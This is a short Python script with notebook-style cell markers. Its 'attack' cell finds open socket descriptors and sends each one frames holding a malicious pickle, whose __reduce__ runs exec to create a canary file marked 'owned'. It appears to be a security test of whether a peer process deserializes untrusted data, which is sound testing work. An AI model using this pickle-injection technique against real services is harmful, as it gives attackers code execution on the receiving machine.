# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import stat
import struct

def frame(header, blob=b""):
    return struct.pack(">IQ", len(header), len(blob)) + header + blob

def sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue
import pickle
class Evil:
    def __reduce__(self):
        return exec, ("open('@CANARY@/owned', 'w')",)
for descriptor in sockets():
    os.write(descriptor, frame(pickle.dumps(Evil()), pickle.dumps(Evil())))
# %% backward, second half
